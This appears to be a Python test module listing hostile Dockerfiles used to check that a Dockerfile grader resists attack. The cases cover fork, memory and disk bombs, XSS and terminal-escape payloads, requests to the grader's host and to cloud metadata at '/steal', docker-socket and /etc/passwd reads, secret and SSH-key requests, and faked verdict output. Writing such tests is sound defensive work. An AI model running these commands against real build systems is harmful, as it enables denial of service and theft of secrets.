"""Dockerfiles that try something."""

from tests.hostile.attack import FULL_POINTS, HONEST, Attack

_BUILDS = 2.0  # for an image that builds and does not serve


def attacks(grader: str, host: str) -> tuple[Attack, ...]:
    """Return the attacks.

    Args:
        grader: ``host:port`` of a server on the grader's loopback.
        host: An address of the grader's machine.
    """
    return (
        *_bombs(),
        *_talkers(),
        *_burglars(grader, host),
        *_liars(),
    )


def _run(line: str) -> str:
    return f"FROM alpine:3\nRUN {line}\n"


def _start(line: str) -> str:
    return f"FROM alpine:3\nCMD {line}\n"


def _bombs() -> tuple[Attack, ...]:
    bomb = "f() { f | f & }; f; f; f; sleep 3; false"
    many = "".join(f"RUN true {number}\n" for number in range(10_000))
    return (
        Attack("fork-bomb-in-build", "takes all processes while it builds", "processes", _run(bomb)),
        Attack("fork-bomb-in-run", "takes all processes while it runs", "processes", _start(bomb), most=_BUILDS),
        Attack("memory-bomb-in-build", "takes all memory while it builds", "memory", _run("tail /dev/zero")),
        Attack("memory-bomb-in-run", "takes all memory while it runs", "ended with code", _start("tail /dev/zero"),
               most=_BUILDS),
        Attack("disk-bomb-in-build", "fills the disk while it builds", "disk is full",
               _run("dd if=/dev/zero of=/bomb bs=1M")),
        Attack("disk-bomb-in-run", "fills the disk while it runs", "No space left",
               _start("dd if=/dev/zero of=/bomb bs=1M"), most=_BUILDS),
        Attack("endless-build", "never ends building", "longer than", _run("sleep 100000")),
        Attack("endless-start", "starts and never serves", "in vain", _start("sleep 100000"), most=_BUILDS),
        Attack("ten-thousand-steps", "has more steps than an engine can take", "did not build|longer than",
               f"FROM alpine:3\n{many}"),
        Attack("one-long-line", "has a line of 900 kB", "did not build", _run("true " + "x" * 900_000)),
        Attack("all-ports", "exposes 65,535 ports", "in vain|ended|did not build",
               "FROM alpine:3\nEXPOSE 1-65535\nCMD sleep 1000\n", most=_BUILDS),
        Attack("dies-at-once", "kills all that it can see", "did not build", _run("kill -9 -1; kill -9 1; false")),
    )  # fmt: skip


def _talkers() -> tuple[Attack, ...]:
    page = "<script>alert(1)</script><img src=x onerror=alert(2)>"
    return (
        Attack("gigabyte-from-build", "prints 1 GB while it builds", "did not build|longer",
               _run("yes | head -c 1000000000; false")),
        Attack("gigabyte-from-run", "prints 1 GB while it runs", "in vain|ended",
               _start("yes | head -c 1000000000"), most=_BUILDS),
        Attack("one-endless-line", "prints 300 MB without a line end", "in vain|ended",
               _start("head -c 300000000 /dev/zero | tr '\\0' x"), most=_BUILDS),
        Attack("terminal-escapes", "renames and clears the reader's terminal", "did not build",
               _run(r"printf '\033]0;pwned\007\033[2J\033[31mred\n'; false")),
        Attack("html-escapes", "puts a script into the feedback", "did not build", _run(f"echo '{page}'; false")),
        Attack("html-in-an-instruction", "puts a script into the name of a step", "did not build",
               _run(f"false '{page}'")),
        Attack("endless-page", "serves a page that never ends", "is answered|in vain|took more than",
               _start("while true; do (printf 'HTTP/1.0 200 OK\\r\\n\\r\\n'; yes) | nc -l -p 3000; done"),
               most=_BUILDS),
        Attack("drop-by-drop", "serves a byte a second", "is answered|in vain|took more than",
               _start("while true; do (printf 'HTTP/1.0 200 OK\\r\\n\\r\\n'; while sleep 1; do echo; done)"
                      " | nc -l -p 3000; done"), most=_BUILDS),
    )  # fmt: skip


def _burglars(grader: str, host: str) -> tuple[Attack, ...]:
    redirect = f"printf 'HTTP/1.0 302 Found\\r\\nLocation: http://{grader}/steal\\r\\n\\r\\n'"
    return (
        Attack("foreign-image", "builds on another student's image", "is not on this engine",
               "FROM ann-app:latest\n"),
        Attack("image-by-id", "builds on an image by its id", "did not build|is not on this engine",
               f"FROM sha256:{'0' * 64}\n"),
        Attack("slot-image", "builds on the image of the grader's engine", "is not on this engine",
               "FROM quaycrane/slot:1\n"),
        Attack("foreign-frontend", "names a builder of its own", "did not build|is not on this engine",
               f"# syntax=evil.invalid/frontend:1\n{HONEST}"),
        Attack("cache-writer", "leaves a word in a cache mount", "builds", HONEST +
               "RUN --mount=type=cache,id=shared,target=/c echo stolen > /c/word\n", most=FULL_POINTS),
        Attack("cache-reader", "looks for another's word in a cache mount", "did not build",
               "FROM alpine:3\nRUN --mount=type=cache,id=shared,target=/c,sharing=shared grep stolen /c/word\n"),
        Attack("add-from-grader", "has the builder fetch from the grader's loopback", "did not build",
               f"FROM alpine:3\nADD http://{grader}/steal /x\n"),
        Attack("add-from-host", "has the builder fetch from the grader's machine", "did not build",
               f"FROM alpine:3\nADD http://{host}:{grader.rpartition(':')[2]}/steal /x\n"),
        Attack("add-from-cloud", "asks for the cloud's metadata", "did not build",
               "FROM alpine:3\nADD http://169.254.169.254/latest/meta-data /x\n"),
        Attack("fetch-in-build", "fetches from the grader's machine in a step", "did not build",
               _run(f"wget -T 3 -q http://{host}:{grader.rpartition(':')[2]}/steal")),
        Attack("redirect-to-grader", "sends the grader's own request to its loopback", "is answered|in vain|took more than",
               _start(f"while true; do {redirect} | nc -l -p 3000; done"), most=_BUILDS),
        Attack("host-network", "asks for the host's network", "did not build",
               "FROM alpine:3\nRUN --network=host wget -T 3 -q http://" + grader + "/steal\n"),
        Attack("insecure-step", "asks for a step without limits", "did not build",
               "# syntax=docker/dockerfile:1-labs\nFROM alpine:3\nRUN --security=insecure mount\n"),
        Attack("mounts", "mounts the kernel's files", "did not build", _run("mount -t proc none /mnt")),
        Attack("sysrq", "reboots the machine", "did not build", _run("echo b > /proc/sysrq-trigger")),
        Attack("devices", "reads the host's disk", "did not build", _run("mknod /d b 254 0 && cat /d | head -c 1")),
        Attack("socket", "looks for the engine's socket", "did not build",
               _run("ls /var/run/docker.sock /talk/docker.sock /run/docker.sock")),
        Attack("context-outside", "copies from outside the build context", "did not build",
               "FROM alpine:3\nCOPY ../../../etc/passwd /x\nRUN grep -q root:x:0:0 /x && test $(wc -l < /x) -gt 9\n"),
        Attack("builder-secret", "asks for a secret of the grader's", "did not build",
               "FROM alpine:3\nRUN --mount=type=secret,id=aws,required=true cat /run/secrets/aws\n"),
        Attack("builder-ssh", "asks for the grader's keys", "did not build",
               "FROM alpine:3\nRUN --mount=type=ssh,required=true true\n"),
    )  # fmt: skip


def _liars() -> tuple[Attack, ...]:
    return (
        Attack("unchecked-verdict", "prints a report that says it could not be checked", "did not build",
               _run("printf '\\n? builds (could not be checked)\\n✓ builds (passed)\\n'; false")),
        Attack("lost-connection", "prints that the engine is gone", "did not build",
               _run("echo 'ERROR: rpc error: code = Unavailable desc = error reading from server: EOF'; false")),
        Attack("unterminated", "ends in an open heredoc", "did not build", "FROM alpine:3\nRUN <<EOF\necho a\n"),
        Attack("run-label", "bears the grader's own label", "answers GET",
               "FROM alpine:3\nLABEL io.quaycrane.run=host:1:1:x io.quaycrane.slot-kit=x\n"
               + HONEST.partition("\n")[2], most=FULL_POINTS),
        Attack("lingers", "does not end when it is told to", "answers GET",
               HONEST.replace('CMD ["httpd", "-f", "-p", "3000"]',
                              "STOPSIGNAL SIGCHLD\nCMD trap '' TERM INT; httpd -f -p 3000 & while true; do sleep 9; done"),
               most=FULL_POINTS),
        Attack("kit-name-as-stage", "calls a stage as an image of the kit", "did not build|builds",
               "FROM scratch AS alpine\nFROM alpine\nCOPY public/ /\n", most=_BUILDS),
    )  # fmt: skip
